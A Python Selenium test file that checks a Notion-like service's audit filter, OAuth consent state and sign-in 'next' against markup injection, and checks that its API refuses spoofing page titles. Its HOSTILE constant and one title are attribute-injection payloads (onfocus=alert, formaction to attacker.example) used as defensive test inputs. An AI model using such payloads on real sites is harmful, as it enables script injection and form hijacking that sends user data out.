"""Markup injection (review M3, L13) in a real headless Chromium: values with a `"` followed by a
combining mark (one grapheme cluster, which swift-mustache 2.1.1's own escaper let through) are
reflected by the audit filter and the consent page's `state`; the browser's DOM must hold them as
attribute values, never as attributes of their own. A sign-in form posted cross-site with a
hostile `next` is refused before anything is rendered from it. Titles that could carry the same
bytes are refused by the API."""

import urllib.parse

import pytest
from notion_client import APIResponseError, Client
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions
from selenium.webdriver.support.ui import WebDriverWait

from test_console import console  # noqa: F401  (signed-in Chromium)
from test_oauth import browser, callback, public_app  # noqa: F401

HOSTILE = 'x"\u0301 autofocus onfocus=alert(1) formaction=https://attacker.example/x formmethod=get y'

INJECTED = """
return [...document.querySelectorAll('[formaction],[onfocus],[formmethod],[autofocus]')]
  .filter(e => e.id !== 'email' && e.id !== 'name')
  .map(e => e.outerHTML);
"""


def injected(driver):
    """Elements that carry an attribute only an injection would add (the sign-in page's e-mail
    field and the new-integration name field are autofocused on purpose)."""
    return driver.execute_script(INJECTED)


def value_of(driver, selector):
    return driver.execute_script("return document.querySelector(arguments[0]).value", selector)


def test_a_hostile_audit_filter_stays_the_fields_value(console, sandbox):  # noqa: F811
    query = urllib.parse.urlencode({"action": HOSTILE}, quote_via=urllib.parse.quote)
    console.get(f"{sandbox.base_url}/console/audit?{query}")
    WebDriverWait(console, 20).until(lambda d: d.find_elements(By.ID, "audit-filters"))
    assert injected(console) == []
    assert value_of(console, "#f-action") == HOSTILE


def test_a_hostile_state_stays_the_consent_forms_value(console, sandbox, callback):  # noqa: F811
    app = public_app(sandbox, callback)
    query = urllib.parse.urlencode(
        {"client_id": app["client_id"], "redirect_uri": callback.uri, "response_type": "code", "state": HOSTILE},
        quote_via=urllib.parse.quote,
    )
    console.get(f"{sandbox.base_url}/v1/oauth/authorize?{query}")
    WebDriverWait(console, 20).until(expected_conditions.presence_of_element_located((By.ID, "consent-form")))
    assert injected(console) == []
    assert value_of(console, "input[name=state]") == HOSTILE
    # The consent form still reaches the client: form-action admits the redirect URI's origin.
    before = len(callback.received)
    console.find_element(By.ID, "cancel").click()
    WebDriverWait(console, 20).until(lambda _: len(callback.received) > before)
    returned = urllib.parse.parse_qs(urllib.parse.urlparse(callback.last_url()).query)
    assert returned["state"] == [HOSTILE]
    assert returned["error"] == ["access_denied"]


def test_a_hostile_next_posted_cross_site_is_refused_without_being_reflected(browser, sandbox):  # noqa: F811
    browser.delete_all_cookies()
    browser.get("about:blank")
    browser.execute_script(
        """
        const form = document.createElement('form');
        form.method = 'post';
        form.action = arguments[0];
        const next = document.createElement('input');
        next.name = 'next';
        next.value = arguments[1];
        form.appendChild(next);
        document.body.appendChild(form);
        form.submit();
        """,
        f"{sandbox.base_url}/signin",
        "/console" + HOSTILE,
    )
    WebDriverWait(browser, 20).until(
        lambda d: d.current_url.endswith("/signin") and d.execute_script("return document.readyState") == "complete"
    )
    assert "expired" in browser.find_element(By.TAG_NAME, "body").text.lower()
    assert injected(browser) == []
    assert "attacker.example" not in browser.page_source


@pytest.mark.parametrize(
    "title",
    [
        'Roadmap"\u0301 formaction=https://attacker.example/collect formmethod=get x',
        "\u0301Roadmap",
        "Road\u202emap",
        "Road\x1b[31mmap",
    ],
)
def test_the_api_refuses_titles_that_could_inject_or_spoof(sandbox, title):
    notion = Client(auth=sandbox.key, base_url=sandbox.base_url)
    page = next(r for r in notion.search()["results"] if r["object"] == "page")
    with pytest.raises(APIResponseError) as refused:
        notion.pages.update(page_id=page["id"], properties={"title": {"title": [{"text": {"content": title}}]}})
    assert refused.value.status == 400
    assert refused.value.code == "validation_error"
    after = notion.pages.retrieve(page_id=page["id"])
    assert after["properties"] == page["properties"]
